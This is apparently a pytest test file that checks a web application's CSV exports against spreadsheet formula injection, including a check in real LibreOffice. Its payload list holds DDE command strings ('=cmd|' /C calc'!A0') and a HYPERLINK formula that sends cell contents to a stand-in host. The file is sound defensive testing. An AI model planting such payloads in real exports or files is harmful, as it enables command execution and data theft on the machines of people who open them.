"""No exported cell is a formula to any spreadsheet, and each can be read back exactly (T12)."""

import csv
import io
import os
import shutil
import subprocess
from itertools import product
from pathlib import Path
from xml.etree import ElementTree

import pytest
from django.urls import get_resolver, reverse
from hypothesis import given
from hypothesis import strategies as st

from peerline.kernel import exports
from peerline.outcomes import queries
from peerline.outcomes import services as outcomes
from peerline.people.access import PLATFORM
from peerline.programs.models import Enrollment
from tests.cast import sign_in, somebody
from tests.exchange.conftest import town  # noqa: F401
from tests.security.test_matrix import addresses

pytestmark = pytest.mark.req("T12")
BEGINNINGS = ["=", "+", "-", "@", "\t", "\r", "＝", "'=", "''=", " =", "\n=", '"=', "\t\t=", "\r\n-"]
MIDDLES = ["", "x;", "x,", "x\n", "x\r\n", 'x"', 'x";"', "x|", "x\t", "x; ", "x;'", "\ufeff"]
PAYLOADS = [f"{middle}{begin}1+1" for middle, begin in product(MIDDLES, BEGINNINGS)] + [
    '=HYPERLINK("http://x.example/?"&A1;"look")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "José; -5", "Anne-Marie",
    "2026-11-24", "plain", "", "'quoted'", "a - b", "=",
]  # fmt: skip
SEPARATORS = {",": 44, ";": 59, "\t": 9, "|": 124}
FORMULA = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}formula"


def as_file(rows: list[list[str]]) -> str:
    return "".join(exports.lines(["name", "note"], rows))


def raw_file(rows: list[list[str]]) -> str:
    """As an export would be that takes no care."""
    out = io.StringIO()
    csv.writer(out).writerows([["name", "note"], *rows])
    return out.getvalue()


def formulas(text: str, separator: str = ",", quote: str | None = '"') -> list[str]:
    """The cells a reader with this separator would take for formulas, spaces and quotes before them not counted."""
    quoting = csv.QUOTE_MINIMAL if quote else csv.QUOTE_NONE
    rows = csv.reader(
        io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=separator, quotechar=quote, quoting=quoting
    )
    return [cell for row in rows for cell in row if cell.lstrip(' "\u00a0\ufeff').startswith(tuple("=+-@\t\r＝＋－＠"))]


def in_every_reader(text: str) -> list[str]:
    return [one for separator in SEPARATORS for quote in ('"', None) for one in formulas(text, separator, quote)]


def test_no_payload_is_a_formula_whatever_the_separator():
    assert in_every_reader(as_file([[payload, payload] for payload in PAYLOADS])) == []


def test_a_file_that_takes_no_care_is_found():
    """Positive control: in each reader."""
    rows = [[payload, payload] for payload in PAYLOADS]
    for separator in SEPARATORS:
        assert formulas(raw_file(rows), separator) and formulas(raw_file([["x;=1+1", "x"]]), ";")


def read_back(text: str) -> list[list[str]]:
    rows = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
    return [[exports.plain(cell) for cell in row] for row in rows][1:]


def test_every_payload_comes_back_exactly():
    rows = [[payload, payload] for payload in PAYLOADS]
    assert read_back(as_file(rows)) == rows


@given(st.text(alphabet=st.sampled_from("=+-@\t\r\n'\";,| ax＝:"), max_size=12))
def test_any_text_comes_back_exactly_and_is_no_formula(text):
    assert exports.plain(exports.safe(text)) == text
    assert in_every_reader(as_file([[text, "x"]])) == []


def exported(program_id: int) -> dict[str, str]:
    """Name → address of everything that gives out a table, over this program where it is one program's."""
    return {
        name: reverse(name, kwargs={"program_id": program_id} if "program_id" in address else {})
        for name, address, _ in addresses(get_resolver().url_patterns)
        if any(word in address for word in ("csv", "export", "/file/"))
    }


NAMELESS = {"care:staff_time_file"}  # numbers only: there is nothing in it that anybody typed


def answered(person) -> None:
    sheet = outcomes.open_sheet(
        PLATFORM,
        enrollment_id=Enrollment.objects.get(person=person).pk,
        occasion="baseline",
        instruments=["confidence"],
    )
    for one in queries.instruments_of(sheet, {}):
        for item in one.items:
            outcomes.answer(PLATFORM, sheet_id=sheet.pk, instrument=one.key, item=item.key, value=7, door="paper")


def test_the_files_of_the_website_hold_no_formula(town, client):  # noqa: F811
    town.rosa.nickname, town.elm.nickname = "x;=1+1", "\t@x"
    for person in (town.rosa, town.elm):
        person.save()
        answered(person)
    town.line.hang_up(town.talking()[0])
    sign_in(client, somebody(town.organization, "coordinator", email="c@example.org"))
    files = exported(town.program.pk)
    assert {"monitoring:export", "outcomes:export"} | NAMELESS <= set(files)
    for name, there in files.items():
        text = b"".join(client.get(there)).decode()
        assert in_every_reader(text) == [], name
        if name not in NAMELESS:
            assert in_every_reader(exports.plain(text)), name  # without the apostrophes there would be some
            assert {"x;=1+1", "\t@x"} <= {cell for row in read_back(text) for cell in row}, name


# --- Opened by a real spreadsheet ------------------------------------------------------------------------------------


def opened(folder: Path, text: str, separator: str) -> tuple[int, set[str]]:
    """(formulas, what the cells show) once LibreOffice has opened this file with this separator."""
    (folder / "export.csv").write_text(text, newline="")
    options = [
        "--headless",
        f"-env:UserInstallation=file://{folder}/profile",
        f"--infilter=CSV:{SEPARATORS[separator]},34,76,1",
    ]
    command = [
        shutil.which("soffice"),
        *options,
        "--convert-to",
        "fods",
        "--outdir",
        str(folder),
        str(folder / "export.csv"),
    ]
    subprocess.run(command, check=True, capture_output=True, timeout=240)
    tree = ElementTree.parse(folder / "export.fods")
    return sum(FORMULA in cell.attrib for cell in tree.iter()), {
        "".join(one.itertext()) for one in tree.iter() if one.tag.endswith("}p")
    }


@pytest.mark.skipif(not shutil.which("soffice"), reason="NO LIBREOFFICE: exports were not opened by a real spreadsheet")
def test_libreoffice_finds_no_formula_in_an_export_and_some_in_a_careless_one(tmp_path):
    rows = [[payload, f"end{number}"] for number, payload in enumerate(PAYLOADS)]
    long = bool(os.environ.get("PEERLINE_LONG"))
    for separator in SEPARATORS if long else [";"]:
        found, shown = opened(tmp_path, as_file(rows), separator)
        assert found == 0 and shown
    careless, _ = opened(tmp_path, raw_file(rows), ",")
    assert careless >= 3
    found, shown = opened(tmp_path, as_file(rows), ",")
    assert found == 0 and {"'=1+1", "end3", "plain"} <= shown
